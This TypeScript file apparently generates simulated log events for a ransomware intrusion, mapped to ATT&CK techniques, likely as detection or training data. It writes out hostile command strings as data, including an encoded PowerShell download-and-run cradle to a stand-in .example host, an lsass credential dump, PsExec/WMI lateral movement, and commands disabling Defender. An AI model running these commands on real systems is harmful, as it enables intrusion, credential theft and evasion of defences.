import { HOUR_MS } from '../../domain/model/time.ts';
import { processCreated, processOpened, type Session } from '../activities/endpoint-events.ts';
import { logCleared, remoteLogon, scriptRun, serviceInstalled } from '../activities/server-events.ts';
import { workstationOf } from '../activities/windows-events.ts';
import type { Random } from '../random.ts';
import { word } from '../world/names.ts';
import { encryptServer } from './ransomware-encryption.ts';
import { address, host, type Play, type Scene, type Stage, user } from './story.ts';

const EXECUTION: Stage = { stage: 'execution', techniques: ['T1204.002', 'T1059.001'] };
const CREDENTIALS: Stage = { stage: 'credential theft', techniques: ['T1003.001'] };
const DISCOVERY: Stage = { stage: 'discovery', techniques: ['T1482', 'T1069.002', 'T1018'] };
const LATERAL: Stage = { stage: 'lateral movement', techniques: ['T1021.002', 'T1569.002'] };
const LATERAL_WMI: Stage = { stage: 'lateral movement', techniques: ['T1021.006', 'T1047'] };
const EVASION: Stage = { stage: 'defences switched off', techniques: ['T1562.001'] };
const CLEARING: Stage = { stage: 'logs cleared', techniques: ['T1070.001'] };

const SYSTEM32 = 'C:\\Windows\\System32\\';
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;

const encodedScript = (random: Random): string =>
  btoa(`IEX (New-Object Net.WebClient).DownloadString("https://${random.hex(8)}.example/${random.hex(4)}")`);

const questionsOf = (slow: boolean): readonly [string, ...string[]] =>
  slow
    ? ['nltest.exe /dclist:', 'net.exe view', 'whoami.exe /groups']
    : [
        'nltest.exe /domain_trusts /all_trusts',
        'net.exe group "Domain Admins" /domain',
        'net.exe view /all /domain',
        'whoami.exe /all',
        'systeminfo.exe',
      ];

/** A document, a stolen administrator's password, server after server, and then every file. Slowly: nights in between. */
export const playRansomware: Play = (scene) => {
  const { world, random, story, slow } = scene;
  const victim = random.pick(world.staff('clerk'));
  const administrator = random.pick(world.staff('administrator'));
  const desk: Session = { userName: victim.userName, sid: victim.sid, hostname: workstationOf(world, victim) };
  const servers = random.shuffle(world.servers).slice(0, random.integer(3, 7));
  const wait = (seconds: number): number =>
    slow ? random.between(0.3, 4) * HOUR_MS : random.exponential(seconds * 1000);
  const night = (): void => {
    if (slow) story.pause(random.between(8, 30) * HOUR_MS);
    else story.pause(random.integer(2000, 30_000));
  };
  const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';

  story.ordinary(
    processCreated(
      0,
      world,
      desk,
      {
        image: office,
        commandLine: `"${office}" /n "C:\\Users\\${victim.userName}\\Downloads\\${word(random)}-${random.integer(10, 99)}.docm"`,
        parent: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
      },
      random,
    ),
  );
  story.malicious(
    EXECUTION,
    processCreated(
      random.integer(2000, 9000),
      world,
      desk,
      {
        image: POWERSHELL,
        commandLine: slow
          ? `powershell.exe -w hidden -f C:\\Users\\${victim.userName}\\AppData\\Local\\Temp\\${random.hex(6)}.ps1`
          : `powershell.exe -nop -w hidden -enc ${encodedScript(random)}`,
        parent: office,
      },
      random,
    ),
  );
  night();
  const dumper = `C:\\Users\\${victim.userName}\\AppData\\Local\\Temp\\${random.hex(6)}.exe`;
  story.malicious(
    CREDENTIALS,
    processCreated(
      wait(4),
      world,
      desk,
      { image: dumper, commandLine: dumper, parent: POWERSHELL, integrity: 'High' },
      random,
    ),
    processOpened(
      random.integer(200, 3000),
      world,
      desk,
      { source: dumper, target: `${SYSTEM32}lsass.exe`, granted: random.pick(['0x1010', '0x1410', '0x1fffff']) },
      random,
    ),
  );
  night();
  for (const question of random.shuffle(questionsOf(slow)))
    story.malicious(
      DISCOVERY,
      processCreated(
        wait(6),
        world,
        desk,
        { image: `${SYSTEM32}${question.split(' ')[0]}`, commandLine: question, parent: POWERSHELL },
        random,
      ),
    );
  for (const hostname of servers) {
    night();
    enter(scene, { userName: administrator.userName, sid: administrator.sid, hostname }, victim.address, wait);
  }
  night();
  const extension = random.hex(5);
  for (const hostname of servers)
    encryptServer(scene, { userName: 'SYSTEM', sid: 'S-1-5-18', hostname }, extension, wait);
  for (const hostname of servers.slice(0, slow ? 1 : servers.length))
    story.malicious(
      CLEARING,
      logCleared(wait(3), world, { userName: administrator.userName, sid: administrator.sid, hostname }, random),
    );
  return [
    user(victim.userName),
    user(administrator.userName),
    address(victim.address),
    host(desk.hostname),
    ...servers.map(host),
  ];
};

/** Onto a server with the administrator's password: a service, or, slowly, Windows' own remote management. */
const enter = (
  { world, random, story, slow }: Scene,
  who: Session,
  from: string,
  wait: (seconds: number) => number,
): void => {
  const stage = slow ? LATERAL_WMI : LATERAL;
  story.malicious(
    stage,
    remoteLogon(wait(8), world, who, { address: from, type: '3', package: slow ? 'Kerberos' : 'NTLM' }, random),
  );
  const system = { ...who, userName: 'SYSTEM', sid: 'S-1-5-18' };
  if (slow)
    story.malicious(
      stage,
      processCreated(
        random.integer(300, 2000),
        world,
        who,
        {
          image: `${SYSTEM32}cmd.exe`,
          commandLine: `cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__${random.integer(1e9, 2e9)}.${random.integer(10, 99)} 2>&1`,
          parent: `${SYSTEM32}wbem\\WmiPrvSE.exe`,
          integrity: 'High',
        },
        random,
      ),
    );
  else
    story.malicious(
      stage,
      serviceInstalled(
        random.integer(200, 900),
        who.hostname,
        random.chance(0.6)
          ? { name: 'PSEXESVC', path: '%SystemRoot%\\PSEXESVC.exe' }
          : { name: random.hex(8), path: `%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output` },
        random,
      ),
      processCreated(
        random.integer(200, 900),
        world,
        system,
        {
          image: `${SYSTEM32}cmd.exe`,
          commandLine: 'cmd.exe',
          parent: 'C:\\Windows\\PSEXESVC.exe',
          integrity: 'System',
        },
        random,
      ),
    );
  story.malicious(
    EVASION,
    scriptRun(
      wait(5),
      who,
      slow
        ? `Add-MpPreference -ExclusionPath C:\\ProgramData\\${word(random)}`
        : 'Set-MpPreference -DisableRealtimeMonitoring $true',
      random,
    ),
  );
};
